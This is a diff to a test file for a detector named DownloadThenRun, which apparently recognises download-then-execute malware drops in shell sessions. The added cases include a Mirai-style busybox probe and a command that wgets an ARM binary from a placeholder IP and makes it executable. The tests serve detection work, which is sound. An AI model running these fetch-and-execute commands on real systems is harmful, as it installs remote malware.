@@ -24,6 +24,9 @@ describe("DownloadThenRun", () => {
   it("does not call a shell alone, or a run in another session, a malware drop", () => {
     const drops = new DownloadThenRun();
     assert.equal(drops.observe(command("e", "enable; system; shell; sh")), false);
+    assert.equal(drops.observe(command("p", "tftp; wget; /bin/busybox XRCUK")), false, "Mirai's probe fetches nothing");
+    assert.equal(drops.observe(command("p", "sh")), false);
+    assert.equal(drops.observe(command("q", "/bin/busybox wget http://192.0.2.7/m.arm7; /bin/busybox chmod 777 m.arm7")), true, "busybox's applets");
     drops.observe(command("f", "wget http://x/b"));
     assert.equal(drops.observe(command("g", "chmod +x b; ./b")), false);
     assert.equal(drops.observe(command("f", "uname -a")), false);
